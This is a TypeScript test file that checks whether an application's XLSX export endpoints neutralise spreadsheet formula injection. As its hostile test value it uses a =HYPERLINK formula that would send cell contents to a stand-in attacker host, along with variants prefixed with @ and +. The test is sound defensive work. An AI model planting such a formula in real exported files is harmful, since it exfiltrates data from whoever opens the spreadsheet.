import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import {
  animateur,
  appel,
  ctx,
  droitComte,
  suiteParametrage,
} from '../modules/parametrage/parametrage.test-helpers';

suiteParametrage();

/** What an audit named an operator: opened in a spreadsheet, a formula that calls out. */
const HOSTILE = '=HYPERLINK("http://attaquant.test/?d="&A1,"Cliquez ici")';

/** Every XLSX export of the office (issue 28 item 7), with what each shows of the hostile names. */
const EXPORTS = [
  '/api/personne-morale/export',
  '/api/habilitation/export',
  '/api/groupe/export',
  '/api/point-controle/export',
  '/api/point-controle/systeme/export',
  '/api/tdb/controle/export',
  '/api/tdb/manquement/export',
  '/api/tdb/pression/export',
];

async function cellulesTexte(payload: Buffer): Promise<string[]> {
  const classeur = new ExcelJS.Workbook();
  await classeur.xlsx.load(payload as unknown as ArrayBuffer);
  const textes: string[] = [];
  for (const feuille of classeur.worksheets) {
    feuille.eachRow((ligne) => {
      ligne.eachCell((c) => {
        // A formula cell would carry `formula`; every hostile name must come back as plain text.
        expect(c.formula).toBeUndefined();
        if (typeof c.value === 'string') textes.push(c.value);
      });
    });
  }
  return textes;
}

describe('XLSX exports neutralise what a spreadsheet would take for a formula', () => {
  it('a =HYPERLINK name comes back as text, apostrophe first, from every export', async () => {
    // Every name an export shows, in this file's own database: operators, groups, points,
    // exploitation points, activities and labels.
    await ctx.database.db.execute(sql`update personne_morale set raison_sociale = ${HOSTILE}`);
    const groupe = await appel('POST', '/api/groupe', animateur, droitComte, { libelle: HOSTILE });
    expect(groupe.statusCode, groupe.body).toBeLessThan(300);
    await ctx.database.db.execute(sql`update point_controle set libelle = ${HOSTILE}`);
    await ctx.database.db.execute(sql`update point_sys_exp set libelle = ${HOSTILE}`);
    await ctx.database.db.execute(sql`update activite set libelle = ${`@${HOSTILE}`}`);
    await ctx.database.db.execute(sql`update aop_igp set libelle = ${`+${HOSTILE}`}`);
    for (const url of EXPORTS) {
      const res = await appel('GET', url, animateur, droitComte);
      expect(res.statusCode, `${url} ${res.body.slice(0, 200)}`).toBe(200);
      const textes = await cellulesTexte(res.rawPayload);
      expect(
        textes.some((t) => t.startsWith(`'`) && t.includes('HYPERLINK')),
        `${url} : aucun nom hostile exporté`,
      ).toBe(true);
      expect(
        textes.filter((t) => /^[=+\-@\t\r]/.test(t)),
        `${url} : cellule non neutralisée`,
      ).toEqual([]);
    }
  });
});
